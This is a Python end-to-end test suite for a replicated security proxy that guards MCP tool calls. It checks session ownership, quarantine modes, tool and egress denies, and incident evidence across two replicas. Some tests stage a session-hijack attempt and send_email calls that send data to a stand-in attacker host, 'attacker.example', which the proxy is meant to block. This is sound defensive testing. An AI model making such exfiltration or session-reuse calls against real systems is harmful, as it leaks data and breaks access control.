"""What a security decision depends on is shared by every replica: two real Drawbridge processes on one
real Redis, as a platform team deploys them behind a load balancer.

Sessions belong to their owner on every replica and after restarts; the tool catalog that read-only and
no-egress quarantines decide on, responder overlays in every mode, egress denies, session listing and
evidence all cover both replicas.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest

from tests.e2e.conftest import AUTH, IDENTITY, OTHER_KEY
from tests.e2e.test_killswitch import ok
from tests.support.drawbridge import Drawbridge, run_drawbridge
from tests.support.mcp_http import call_tool, error_code, open_session, rpc
from tests.support.redis_server import RedisServer
from tests.support.sdk import sdk_client
from tests.support.waiting import eventually

pytestmark = pytest.mark.e2e
QUARANTINED = -32053
EMAIL = {"to": "ops@corp.test", "subject": "report", "body": "weekly numbers"}


@pytest.fixture
def replicas(demo_server: str, tmp_path: Path, own_redis: RedisServer) -> Iterator[tuple[Drawbridge, Drawbridge]]:
    """Replica A (with the admin API) and replica B, permit-all policy, API-key identities, one Redis."""
    extra = {"identity": IDENTITY, "store": own_redis.url}
    with run_drawbridge(tmp_path, {"default": demo_server}, extra=extra, admin=True) as a, \
            run_drawbridge(tmp_path, {"default": demo_server}, extra=extra) as b:
        yield a, b


def code(proxy: Drawbridge, tool: str, arguments: dict[str, object]) -> int | None:
    return error_code(call_tool(proxy.mcp_url(), open_session(proxy.mcp_url(), AUTH), tool, arguments))


def listed(proxy: Drawbridge) -> list[str]:
    _, answer = rpc(proxy.mcp_url(), open_session(proxy.mcp_url(), AUTH), "tools/list")
    assert answer is not None and "result" in answer, answer
    return sorted(t["name"] for t in answer["result"]["tools"])


@pytest.mark.node
def test_a_session_is_its_owners_on_every_replica_and_after_restarts(tmp_path: Path, own_redis: RedisServer) -> None:
    rig = pytest.importorskip("tests.support.rig")
    rig.ensure_rig()
    extra = {"identity": IDENTITY, "store": own_redis.url}
    with rig.start_everything() as url, run_drawbridge(tmp_path, {"default": url}, extra=extra) as a, \
            run_drawbridge(tmp_path, {"default": url}, extra=extra) as b:
        alice = open_session(a.mcp_url(), AUTH)  # opened on A …
        assert "result" in call_tool(b.mcp_url(), alice, "echo", {"message": "on B"})  # … continues on B
        mallory = {**alice, "x-api-key": OTHER_KEY}
        for replica in (a, b):  # another principal presenting alice's session id is refused everywhere
            response, _ = rpc(replica.mcp_url(), mallory, "tools/list")
            assert response.status_code == 404 and "alice" not in response.text
        assert "result" in call_tool(a.mcp_url(), alice, "echo", {"message": "still mine"})
        for replica in (a, b):  # a rolling update: nothing is re-adopted after a restart
            replica.restart()
            response, _ = rpc(replica.mcp_url(), mallory, "tools/list")
            assert response.status_code == 404
            assert "result" in call_tool(replica.mcp_url(), alice, "echo", {"message": "after restart"})
        refused = [e for e in a.events() + b.events() if e["principal"] == "mallory" and e["verdict"] == "deny"]
        assert len(refused) == 4 and all(e["http"]["status"] == 404 and e["session_id"] == alice["mcp-session-id"]
                                         for e in refused)
        response, _ = rpc(b.mcp_url(), {**alice, "mcp-session-id": "made-up-session"}, "tools/list")
        assert response.status_code == 404  # an id the store does not know is refused, never adopted


def test_read_only_and_no_egress_decide_the_same_on_a_replica_that_never_saw_a_listing(
        replicas: tuple[Drawbridge, Drawbridge]) -> None:
    a, b = replicas
    assert listed(a) == ["delete_note", "get_weather", "search_notes", "send_email"]  # learned on A only
    ok(a.cli("quarantine", "principal", "alice", "--mode", "read-only", "--reason", "triage"))
    assert code(b, "get_weather", {"city": "Oslo"}) is None  # readOnlyHint, as A learned it
    assert code(b, "delete_note", {"note_id": 1}) == QUARANTINED
    ok(a.cli("release", "principal", "alice", "--to-mode", "no-egress", "--reason", "step down"))
    assert code(b, "delete_note", {"note_id": 2}) is None  # closed-world tool
    assert code(b, "send_email", EMAIL) == QUARANTINED  # open-world tool


def test_deny_tools_hold_in_every_mode_on_the_other_replica_and_hide_the_tool(
        replicas: tuple[Drawbridge, Drawbridge]) -> None:
    a, b = replicas
    ok(a.cli("deny-tools", "--principal", "alice", "--tools", "get_weather", "--reason", "IR", "--ticket", "IR-5"))
    for mode in (None, "monitor", "no-egress", "read-only"):
        if mode is not None:
            ok(a.cli("quarantine", "principal", "alice", "--mode", mode, "--reason", "IR"))
        assert code(b, "get_weather", {"city": "Oslo"}) == QUARANTINED, mode
        assert "get_weather" not in listed(b), mode
        ok(a.cli("release", "principal", "alice", "--reason", "next")) if mode is not None else None
    denied = [e for e in b.events() if e["rule_ids"] == ["containment-deny-tools"]]
    assert len(denied) == 4 and all("IR-5" in e["reason"] for e in denied)


def test_a_responders_egress_deny_is_enforced_by_the_other_replica(replicas: tuple[Drawbridge, Drawbridge]) -> None:
    a, b = replicas
    assert code(b, "send_email", {**EMAIL, "to": "drop@attacker.example"}) is None  # permit-all: it goes out
    ok(a.cli("egress", "deny", "--host", "attacker.example", "--reason", "c2", "--ticket", "IR-6"))
    assert code(b, "send_email", {**EMAIL, "to": "drop@attacker.example"}) == QUARANTINED
    assert code(b, "send_email", {**EMAIL, "to": "x@mail.attacker.example"}) == QUARANTINED  # subdomains too
    assert code(b, "send_email", {**EMAIL, "body": "see https://attacker.example/upload"}) == QUARANTINED
    assert code(b, "send_email", EMAIL) is None  # other destinations are untouched
    refused = [e for e in b.events() if e["rule_ids"] == ["containment-egress-deny"]]
    assert len(refused) == 3 and "attacker.example" in json.dumps(refused[0]["destinations"])


def test_sessions_and_evidence_cover_every_replica(replicas: tuple[Drawbridge, Drawbridge]) -> None:
    a, b = replicas
    served_by_b = open_session(b.mcp_url(), AUTH)
    assert "result" in call_tool(b.mcp_url(), served_by_b, "get_weather", {"city": "Lima"})
    session = served_by_b["mcp-session-id"]
    assert eventually(lambda: session in a.cli("sessions", "list", "--principal", "alice").stdout)
    done = a.cli("quarantine", "session", session, "--reason", "IR", "--ticket", "IR-7")
    ok(done)
    evidence_id = next(line.split()[-1] for line in done.stdout.splitlines() if line.startswith("evidence"))
    shown = a.cli("evidence", "show", evidence_id, "--exchanges")
    ok(shown)
    assert "Lima" in shown.stdout  # the call B served is in the evidence sealed on A
    context = json.loads((Path(a.config_path).parent / f"evidence-{a.port}" / evidence_id / "context.json").read_text())
    assert len(context["replicas"]["contributed"]) == 2 and context["replicas"]["missing"] == []


def test_a_stateless_client_is_listed_quarantined_and_killed_by_its_client_key(
        replicas: tuple[Drawbridge, Drawbridge]) -> None:
    a, b = replicas

    async def modern_call(proxy: Drawbridge) -> str | None:
        try:
            async with sdk_client(proxy.mcp_url(), mode="2026-07-28", headers=AUTH) as client:
                await client.call_tool("get_weather", {"city": "Quito"})
        except Exception as exc:  # the SDK wraps refusals in exception groups
            return repr(exc)
        return None

    assert anyio.run(modern_call, b) is None
    stateless = [e for e in b.events() if e["era"] == "modern" and e["tool"] == "get_weather"]
    key = stateless[0]["client_key"]
    assert key.startswith("ck-") and stateless[0]["session_id"] is None
    assert eventually(lambda: key in a.cli("sessions", "list").stdout)  # listed on A, served by B
    ok(a.cli("quarantine", "session", key, "--reason", "IR", "--ticket", "IR-8"))
    refused = anyio.run(modern_call, b)
    assert refused is not None and str(QUARANTINED) in refused
    ok(a.cli("release", "session", key, "--reason", "done"))
    assert anyio.run(modern_call, b) is None
    killed = a.cli("sessions", "kill", key, "--reason", "IR")
    ok(killed)
    assert "killed 1 session(s)" in killed.stdout
    assert key not in a.cli("sessions", "list").stdout
